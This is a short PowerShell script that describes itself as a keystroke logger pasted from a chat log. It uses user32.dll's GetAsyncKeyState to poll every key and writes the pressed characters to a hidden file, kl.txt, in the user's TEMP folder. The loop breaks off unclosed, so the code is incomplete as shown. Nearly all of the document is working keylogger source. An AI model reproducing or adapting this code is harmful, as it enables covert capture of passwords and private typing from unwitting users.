# Keystroke logger pasted from a chat log; the end of the loop was cut off.
$signature = @'
[DllImport("user32.dll", CharSet = CharSet.Auto)]
public static extern short GetAsyncKeyState(int virtualKeyCode);
[DllImport("user32.dll")]
public static extern int MapVirtualKey(uint uCode, int uMapType);
'@
$api = Add-Type -MemberDefinition $signature -Name 'KeyState' -Namespace 'Win32Functions' -PassThru
$log = "$env:TEMP\kl.txt"

while ($true) {
    Start-Sleep -Milliseconds 40
    for ($code = 8; $code -le 254; $code++) {
        if ($api::GetAsyncKeyState($code) -eq -32767) {
            $char = [char]$api::MapVirtualKey($code, 2)
            Add-Content -Path $log -Value $char -NoNewline
        }
    }
